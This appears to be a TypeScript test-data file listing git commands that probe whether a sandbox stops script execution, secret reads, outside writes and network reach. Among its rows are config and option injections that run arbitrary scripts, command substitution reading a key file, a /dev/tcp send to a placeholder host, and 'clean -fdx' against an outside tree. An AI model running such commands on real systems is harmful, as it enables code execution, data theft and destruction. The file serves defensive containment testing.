import { byScript, row, type Row } from "./row.ts";

/** Runs the script whenever git writes the index, which most of its commands do. */
const byIndex = (command: string) => byScript(`git -c core.fsmonitor='% >&2; :' ${command}`);
/** The workspace has a hook that runs the script of its kind. */
const byHook = (command: string) => ({ read: command, write: command, reach: command });
const byEditor = (command: string) => byScript(`GIT_EDITOR='%; :' git ${command}`);

const STAGED = "echo more >> a.txt && git add a.txt";

/** git in a repository whose remote is a folder of the workspace. */
export const GIT_ROWS: readonly Row[] = [
  row(
    ["oc-013", "git"],
    {
      ...byScript("git push --receive-pack='% >&2; git-receive-pack' origin HEAD"),
      reach: [
        "git push @URL@/x.git HEAD",
        "git -c http.proxy= push @URL@/x.git HEAD",
        "git push git://@IP@:@PORT@/x.git HEAD",
      ],
      write: "git push @OUTSIDE@/bare.git HEAD:refs/heads/pushed",
    },
    { before: "git commit -qm more --allow-empty" },
  ),
  row(["oc-016", "git"], {
    ...byScript("git pull --rebase --upload-pack='% >&2; git-upload-pack'"),
    reach: ["git pull --rebase @URL@/x.git", "git pull --rebase git://@IP@:@PORT@/x.git"],
  }),
  row(["oc-027", "git"], byIndex("status"), { before: "git merge conflicting || true" }),
  row(
    ["oc-042", "git"],
    {
      ...byHook("git -c core.hooksPath=twin-hooks worktree add inside side"),
      write: ["git worktree add @OUT@ side", "git worktree add ../../outside/tree side"],
      // The private home can be written, so it may work there; the real folder beside the workspace stays as it was.
    },
    { before: "git branch feature side", exit: [0, 128] },
  ),
  row(
    ["oc-052", "git"],
    {
      ...byScript("git push --receive-pack='% >&2; git-receive-pack'"),
      reach: "git -c remote.origin.url=@URL@/x.git -c remote.origin.pushurl=@URL@/x.git push",
    },
    { before: "git commit -qm more --allow-empty" },
  ),
  row(
    ["oc-055", "git"],
    { ...byEditor("config -e"), write: 'git config -f @OUT@ user.name "x"' },
    { exit: [0, 4, 255] },
  ),
  row(
    ["oc-060", "git"],
    {
      read: "git blame --contents @KEY@ src/x.ts",
      write: "git blame src/x.ts > @OUT@",
      reach: "git blame src/x.ts > /dev/tcp/@IP@/@PORT@",
    },
    { says: "foo" },
  ),
  row(["oc-064", "git"], { write: "git --work-tree=@OUTSIDE@ clean -fdx" }),
  row(["oc-072", "git"], { ...byIndex("reset --hard HEAD~1"), write: "git --work-tree=@OUTSIDE@ reset --hard" }),
  row(["oc-075", "git"], byHook("git -c core.hooksPath=twin-hooks checkout -b another")),
  row(
    ["oc-077", "git"],
    {
      ...byScript("git -c diff.external='%; :' log -p --ext-diff --oneline"),
      write: "git log --oneline --graph -20 --output=@OUT@",
    },
    { says: "first" },
  ),
  row(["oc-083", "git"], byIndex("stash"), { before: STAGED }),
  row(["oc-091", "git"], byIndex("add -A"), { before: "echo more >> a.txt", exit: [0, 1] }),
  row(["oc-099", "git"], { ...byEditor("cherry-pick -e abc123") }),
  row(["oc-101", "git"], {
    read: 'x=$(git hash-object -w @KEY@); git cat-file -p "$x"',
    write: 'x=$(git rev-parse HEAD); echo "$x" > @OUT@',
    reach: 'x=$(git ls-remote @URL@/x.git); echo "$x"',
  }),
  row(
    ["oc-109", "git"],
    {
      read: 'git log --since="2 weeks ago" --author="$(cat @KEY@ >&2)"',
      write: 'git log --since="2 weeks ago" --output=@OUT@',
      reach: 'git log --author="$(sh ./twin-reach.sh)"',
    },
    { says: "first" },
  ),
  row(["oc-111", "git"], {
    ...byScript("git -c diff.external='%; :' diff --ext-diff HEAD~1"),
    read: ["git diff --no-index @KEY@ /dev/null"],
    write: "git diff --stat HEAD~1 --output=@OUT@",
  }),
  row(["oc-119", "git"], { ...byEditor("tag -a v2.0.0"), read: "git tag -F @KEY@ v2.0.0 && git tag -n9 -l v2.0.0" }),
  row(
    ["oc-124", "git"],
    { ...byEditor("commit --allow-empty"), read: "git commit --allow-empty -qF @KEY@ && git log -1" },
    { before: STAGED },
  ),
];
